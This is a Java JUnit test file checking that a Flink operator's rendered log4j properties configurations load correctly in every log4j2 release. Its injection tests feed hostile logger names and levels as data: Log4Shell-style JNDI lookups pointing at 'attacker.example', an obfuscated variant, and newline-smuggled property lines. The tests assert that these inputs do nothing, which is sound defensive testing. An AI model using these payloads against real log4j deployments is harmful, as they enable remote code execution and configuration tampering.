package io.flinkops.logging;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.flinkops.Compilation;
import io.flinkops.Compiler;
import io.flinkops.logging.LoggingProfiles;
import io.flinkops.model.DeploymentSpec;
import io.flinkops.model.Logging;
import io.flinkops.model.SessionClusterSpec;
import io.flinkops.resolve.Resolved;
import io.flinkops.resolve.ResolvedRepo;
import io.flinkops.source.Sources;
import io.flinkops.testing.TestRepos;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * The rendered {@code log4j-console.properties} loads in real log4j2 (every release Flink images ship) the way a
 * Flink pod loads it, and sets exactly the configured root level and loggers.
 */
class LogConfigurationsLog4jTest {

    /** The loggers the stock Flink configuration (profiles `default` and `json`) pins, with their levels. */
    static final Map<String, String> STOCK_LOGGERS = Map.of(
            "akka", "INFO",
            "org.apache.pekko", "INFO",
            "org.apache.kafka", "INFO",
            "org.apache.hadoop", "INFO",
            "org.apache.zookeeper", "INFO",
            "org.apache.flink.shaded.zookeeper3", "INFO",
            "org.jboss.netty.channel.DefaultChannelPipeline", "OFF");

    private static final LogVariables VARS = LogFixtures.variables("payments", "fraud-scoring");
    private static final ObjectMapper JSON = new ObjectMapper();

    @TempDir
    Path tmp;

    private static Logging logging(String profile, Map<String, String> loggers) {
        return new Logging(profile, loggers, null);
    }

    private static Map<String, String> expectedLoggers(String profile, Logging logging) {
        Map<String, String> expected = new TreeMap<>();
        if (LoggingProfiles.BUILT_IN.contains(profile)) expected.putAll(STOCK_LOGGERS);
        expected.putAll(LogConfigurations.userLoggers(logging));
        return expected;
    }

    /** Loads with every release and checks what every rendered configuration must give. */
    private List<Log4jLoading.Loaded> loadAndCheck(String text, String rootLevel, Map<String, String> loggers, String message) {
        assertFalse(text.stripLeading().startsWith("<"), "never XML");
        assertTrue(text.chars().allMatch(c -> c < 0x80), "ASCII: log4j reads the file as ISO-8859-1");
        List<Log4jLoading.Loaded> all = Log4jLoading.loadWithEveryRelease(text, tmp, message);
        for (Log4jLoading.Loaded l : all) {
            assertNull(l.exception(), l.toString());
            assertTrue(l.isPropertiesConfiguration(), "log4j chose its properties parser: " + l);
            assertTrue(l.configurationLocation().endsWith("/conf/log4j-console.properties"), l.toString());
            assertEquals(List.of(), l.statusErrors(), "log4j reported errors: " + l);
            assertEquals(List.of(), l.status(), "log4j reported warnings: " + l);
            assertEquals(rootLevel, l.rootLevel(), l.toString());
            assertEquals(loggers, l.loggers(), "exactly the configured loggers: " + l);
            l.appenders().forEach((name, state) -> assertTrue(state.endsWith(" started"), name + " " + state + " in " + l));
            assertFalse(l.appenders().isEmpty(), l.toString());
        }
        return all;
    }

    @Test
    void defaultProfileIsFlinksStockConfigurationWithTheConfiguredLevels() {
        Map<String, String> levels = new LinkedHashMap<>();
        levels.put("", "warn");
        levels.put("com.acme.payments", "debug");
        levels.put("org.apache.kafka", "ERROR");
        Logging logging = logging(null, levels);
        String text = LogFixtures.render(repo(), logging, VARS);
        List<Log4jLoading.Loaded> all = loadAndCheck(text, "WARN", expectedLoggers("default", logging), "probe line");
        for (Log4jLoading.Loaded l : all) {
            assertEquals(List.of("ConsoleAppender", "RollingFileAppender"), l.rootAppenders(), l.toString());
            assertEquals(Map.of("ConsoleAppender", "ConsoleAppender started", "RollingFileAppender", "RollingFileAppender started"), l.appenders());
            assertTrue(l.console().matches("(?s)\\d{4}-\\d\\d-\\d\\d \\d\\d:\\d\\d:\\d\\d,\\d{3} WARN +flinkops\\.probe +\\[\\] - probe line\\R"), l.console());
            assertTrue(l.logFile().contains("flinkops.probe"), "the rolling file at -Dlog.file is written: " + l.logFile());
        }
    }

    @Test
    void defaultsWithoutLoggingAreInfoAndTheStockLoggers() {
        String text = LogFixtures.render(repo(), null, VARS);
        loadAndCheck(text, "INFO", STOCK_LOGGERS, "probe line");
    }

    @Test
    void jsonProfileWritesOneJsonObjectPerConsoleLine() throws Exception {
        Logging logging = logging("json", Map.of("", "INFO", "com.acme", "TRACE"));
        String text = LogFixtures.render(repo(), logging, VARS);
        String message = "a \"quoted\" message\nwith a second line and a tab\t and é";
        for (Log4jLoading.Loaded l : loadAndCheck(text, "INFO", expectedLoggers("json", logging), message)) {
            String[] lines = l.console().split("\\R");
            assertEquals(1, lines.length, "one line per event: " + l.console());
            JsonNode event = JSON.readTree(lines[0]);
            assertEquals("INFO", event.path("log.level").asText());
            assertEquals("flinkops.probe", event.path("log.logger").asText());
            assertEquals(message, event.path("message").asText());
            assertEquals("payments", event.path("flink.namespace").asText());
            assertEquals("fraud-scoring", event.path("flink.deployment.name").asText());
            assertEquals(VARS.deploymentId(), event.path("flink.deployment.id").asText());
            assertEquals("", event.path("flink.job.id").asText());
            assertTrue(event.path("@timestamp").asText().matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}(Z|[+-]\\d\\d:\\d\\d)"),
                    event.toString());
            assertFalse(event.has("error.stack_trace"), event.toString());
        }
    }

    /**
     * Every FlinkDeployment examples/repo renders: its application-mode Deployments and its SessionClusters, with
     * their effective logging. This covers the built-in `default`, the repo profile `logfmt-stdout` and the inline
     * Splunk template of fraud-scoring.
     */
    @Test
    void everyLogConfigurationOfTheExamplesRepoLoads() throws Exception {
        Compilation c = new Compiler().compile(Sources.workingTree(TestRepos.examplesRepo()));
        assertFalse(c.hasErrors(), c.diagnostics().sorted().toString());
        ResolvedRepo repo = c.repo();
        LogConfigurations renderer = LogFixtures.of(repo);
        List<String> seen = new ArrayList<>();
        for (Resolved<DeploymentSpec> d : repo.deployments().toList()) {
            if (d.spec().sessionClusterName() != null) continue;
            Logging logging = d.spec().templateSpec().logging();
            check(renderer, d.namespace() + "/" + d.name(), logging, LogFixtures.variables(d.namespace(), d.name()), seen);
        }
        for (var ns : repo.namespaces().values()) {
            for (Resolved<SessionClusterSpec> s : ns.sessionClusters().values()) {
                check(renderer, s.namespace() + "/" + s.name(), s.spec().logging(), LogFixtures.variables(s.namespace(), s.name()), seen);
            }
        }
        assertTrue(seen.contains("payments/fraud-scoring inline"), seen.toString());
        assertTrue(seen.stream().anyMatch(s -> s.endsWith(" logfmt-stdout")), seen.toString());
        assertTrue(seen.stream().anyMatch(s -> s.endsWith(" default")), seen.toString());
        assertTrue(seen.contains("analytics/analytics-shared default"), "a session cluster: " + seen);
    }

    private void check(LogConfigurations renderer, String who, Logging logging, LogVariables vars, List<String> seen) throws Exception {
        LogConfigurations.Outcome outcome = renderer.attempt(logging, vars);
        assertTrue(outcome.ok(), who + ": " + outcome);
        boolean inline = outcome.source().kind() == LogConfigurations.Source.Kind.INLINE;
        String profile = inline ? "inline" : outcome.source().profile();
        seen.add(who + " " + profile);
        Map<String, String> expected = expectedLoggers(profile, logging);
        String message = "probe for " + who;
        for (Log4jLoading.Loaded l : loadAndCheck(outcome.text(), LogConfigurations.rootLevel(logging), expected, message)) {
            assertTrue(l.rootAppenders().containsAll(List.of("ConsoleAppender", "RollingFileAppender")), who + ": " + l);
            if (profile.equals("logfmt-stdout")) {
                String line = l.console().strip();
                assertTrue(line.startsWith("ts="), line);
                assertTrue(line.contains(" level=INFO vvp_namespace=" + vars.namespace() + " deployment=" + vars.deploymentName()
                        + " deployment_id=" + vars.deploymentId() + " job_id= logger=flinkops.probe "), line);
                assertTrue(line.contains("msg=\"" + message + "\""), line);
            }
            if (inline) {
                // fraud-scoring: WARN and above also go to Splunk's HTTP Event Collector through an async queue.
                assertEquals("HttpAppender started", l.appenders().get("SplunkHec"), l.toString());
                assertEquals("AsyncAppender started", l.appenders().get("SplunkAsync"), l.toString());
                assertTrue(l.rootAppenders().contains("SplunkAsync"), l.toString());
            }
        }
        if (inline) {
            assertTrue(outcome.text().contains("Authorization"), "the Splunk appender's header");
            assertTrue(outcome.text().contains("Splunk ${env:SPLUNK_HEC_TOKEN}"), "the token stays a reference that log4j resolves in the pod");
        }
    }

    /**
     * Logger names the validator would reject (FO705) still cannot change the configuration: each becomes exactly
     * one logger with exactly that name, and nothing else changes. log4j lookups in a name are not evaluated.
     */
    @Test
    void hostileLoggerNamesCannotInjectConfiguration() {
        List<String> names = List.of(
                "evil\nrootLogger.level = TRACE",
                "evil\r\nlogger.x.name = injected",
                "a=b", "a:b", "#comment", "!bang", "key = value",
                "caf\u00e9.\u65e5\u672c.\uD83D\uDE00",
                "${jndi:ldap://attacker.example/a}",
                "${env:HOME}", "${sys:user.home}", "$${env:HOME}", "a$", "${${::-j}ndi:ldap://x/}",
                "back\\slash", "trailing\\", "\\u0041",
                "tab\there", "nul\u0000byte");
        Map<String, String> loggers = new TreeMap<>();
        for (String n : names) loggers.put(n, "DEBUG");
        loggers.put("", "ERROR");
        Logging logging = logging(null, loggers);
        Map<String, String> expected = expectedLoggers("default", logging);
        assertEquals(STOCK_LOGGERS.size() + names.size(), expected.size());
        loadAndCheck(LogFixtures.render(repo(), logging, VARS), "ERROR", expected, "probe line");
        loadAndCheck(LogFixtures.render(repo(), logging("json", loggers), VARS), "ERROR", expected, "probe line");
    }

    /**
     * Why an XML template is FO706 and never rendered: read the way Flink reads log4j-console.properties, a VVP
     * XML configuration leaves log4j with its fallback, errors only, and none of the configured loggers. (This
     * also shows that the probe sees a configuration that did not work.)
     */
    @Test
    void anXmlConfigurationWhereFlinkExpectsPropertiesLeavesOnlyErrors() {
        String xml = """
                <?xml version="1.0" encoding="UTF-8"?>
                <Configuration status="WARN">
                  <Appenders><Console name="Console"><PatternLayout pattern="%m%n"/></Console></Appenders>
                  <Loggers>
                    <Logger name="com.acme" level="DEBUG"/>
                    <Root level="INFO"><AppenderRef ref="Console"/></Root>
                  </Loggers>
                </Configuration>
                """;
        for (Log4jLoading.Loaded l : Log4jLoading.loadWithEveryRelease(xml, tmp, "probe line")) {
            assertTrue(l.isPropertiesConfiguration(), "chosen by the file name, not the content: " + l);
            assertEquals("ERROR", l.rootLevel(), l.toString());
            assertEquals(Map.of(), l.loggers(), l.toString());
            assertTrue(l.status().stream().anyMatch(s -> s.contains("No Root logger was configured")), l.toString());
        }
    }

    /** A level the validator would reject (FO701) cannot add loggers either. */
    @Test
    void hostileLevelsCannotInjectConfiguration() {
        Logging logging = logging(null, Map.of("com.acme", "INFO\nlogger.evil.name = evil\nlogger.evil.level = TRACE"));
        String text = LogFixtures.render(repo(), logging, VARS);
        for (Log4jLoading.Loaded l : Log4jLoading.loadWithEveryRelease(text, tmp, "probe line")) {
            assertTrue(l.isPropertiesConfiguration(), l.toString());
            assertEquals(new java.util.TreeSet<>(expectedLoggers("default", logging).keySet()), l.loggers().keySet(), l.toString());
            assertFalse(l.loggers().containsKey("evil"), l.toString());
        }
    }

    private static ResolvedRepo repo() {
        try {
            return new Compiler().compile(Sources.workingTree(TestRepos.projectRoot().resolve("compiler/src/test/resources/cases/_base/input"))).repo();
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }
}
